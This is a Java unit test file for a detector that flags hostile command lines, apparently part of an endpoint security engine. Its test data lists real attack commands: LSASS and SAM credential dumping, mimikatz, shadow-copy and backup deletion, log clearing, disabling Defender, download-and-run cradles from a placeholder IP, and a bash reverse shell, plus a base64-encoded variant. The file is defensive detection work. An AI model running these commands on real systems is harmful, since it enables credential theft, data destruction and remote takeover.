package dupin.engine.analyzer;

import static org.assertj.core.api.Assertions.assertThat;

import dupin.engine.TestWeights;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

class BehavioursTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            textBlock =
                    """
                    rundll32.exe; rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 712 C:\\x.bin full; command.dump-lsass
                    tool.exe; tool.exe -accepteula -ma lsass.exe out.dmp; command.dump-lsass
                    x.exe; x.exe privilege::debug sekurlsa::logonpasswords; command.credential-tool
                    reg.exe; reg save HKLM\\SAM c:\\sam.hiv; command.hive-dump
                    vssadmin.exe; vssadmin.exe Delete Shadows /All /Quiet; command.shadow-delete
                    wmic.exe; wmic shadowcopy delete; command.shadow-delete
                    wbadmin.exe; wbadmin delete catalog -quiet; command.backup-delete
                    bcdedit.exe; bcdedit /set {default} recoveryenabled No; command.recovery-off
                    wevtutil.exe; wevtutil cl Security; command.log-clear
                    powershell.exe; powershell Set-MpPreference -DisableRealtimeMonitoring $true; command.protection-off
                    certutil.exe; certutil.exe -urlcache -split -f http://192.0.2.9/a.txt a.exe; command.certutil
                    regsvr32.exe; regsvr32 /s /n /u /i:http://192.0.2.9/a.sct scrobj.dll; command.regsvr32
                    mshta.exe; mshta.exe http://192.0.2.9/a.hta; command.mshta
                    rundll32.exe; rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication "; command.rundll32
                    wmic.exe; wmic process call create "cmd /c x"; command.wmi-process
                    wmic.exe; wmic /node:srv1 process call create calc; command.wmi-remote
                    powershell.exe; powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')"; command.download-run
                    cmd.exe; cmd.exe /c echo abcdef > \\\\.\\pipe\\abcdef; command.pipe-shell
                    net.exe; net user helper P4ss /add; command.account-add
                    nltest.exe; nltest /domain_trusts /all_trusts; command.trust
                    cmd.exe; cmd /c v^s^s^a^d^m^i^n delete shadows; command.shadow-delete
                    bash; bash -i >& /dev/tcp/192.0.2.9/443 0>&1; command.unix-shell
                    """)
    void actsAreRecognised(String program, String commandLine, String weightId) {
        assertThat(shown(program, commandLine)).contains(weightId);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            textBlock =
                    """
                    svchost.exe; C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule
                    vssadmin.exe; vssadmin list shadows
                    wbadmin.exe; wbadmin start backup -backupTarget:E: -quiet
                    rundll32.exe; rundll32.exe shell32.dll,Control_RunDLL timedate.cpl
                    certutil.exe; certutil -hashfile setup.exe SHA256
                    net.exe; net use Z: \\\\files\\team
                    msiexec.exe; msiexec.exe /i C:\\Windows\\ccmcache\\a\\package.msi /qn
                    reg.exe; reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\Dhcp out.reg /y
                    reg.exe; reg query HKLM\\Software\\Vendor
                    chrome.exe; "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --that-flag
                    notepad.exe; notepad.exe C:\\Users\\ann\\Documents\\lsass notes.txt
                    wmic.exe; wmic os get caption
                    schtasks.exe; schtasks /query /fo csv
                    taskkill.exe; taskkill /im notepad.exe
                    git.exe; git.exe -c core.pager=cat log
                    """)
    void ordinaryWorkIsNone(String program, String commandLine) {
        assertThat(shown(program, commandLine)).isEmpty();
    }

    @Test
    void whatIsEncodedIsReadAgain() {
        String inner = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')";
        String encoded = Base64.getEncoder().encodeToString(inner.getBytes(StandardCharsets.UTF_16LE));
        var command = CommandLine.of("powershell.exe -EncodedCommand " + encoded);
        assertThat(command.decoded()).isEqualTo(inner);
        assertThat(shown("powershell.exe", "powershell.exe -enc " + encoded)).contains("command.download-run");
    }

    @Test
    void concatenationAndCharacterCodesAreUndone() {
        assertThat(CommandLine.of("powershell ('Inv'+'oke-Exp'+'ression')").text()).contains("invoke-expression");
        assertThat(CommandLine.of("powershell [char]105+[char]101+[char]120").text()).contains("iex");
    }

    @Test
    void base64ThatIsNoTextStaysAsItIs() {
        assertThat(CommandLine.of("tool.exe -enc QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=\u0001").text()).isNotEmpty();
        assertThat(CommandLine.of("tool.exe -e " + "/".repeat(40)).decoded()).isEmpty();
    }

    @Test
    void hostileLengthIsBounded() {
        assertThat(CommandLine.of("a".repeat(5_000_000)).text().length()).isLessThan(40_000);
        assertThat(CommandLine.of("'+'".repeat(200_000)).text().length()).isLessThan(40_000);
        assertThat(CommandLine.of("-enc " + "QQ".repeat(400_000)).text().length()).isLessThan(40_000);
    }

    @Test
    void everyActHasItsWeight() {
        var weights = TestWeights.shipped();
        assertThat(Behaviours.ALL).allSatisfy(b -> assertThat(weights.of(b.weightId())).isPositive());
    }

    private static List<String> shown(String program, String commandLine) {
        var command = CommandLine.of(commandLine);
        return Behaviours.ALL.stream()
                .filter(b -> b.shows(program, command))
                .map(Behaviour::weightId)
                .distinct()
                .toList();
    }
}
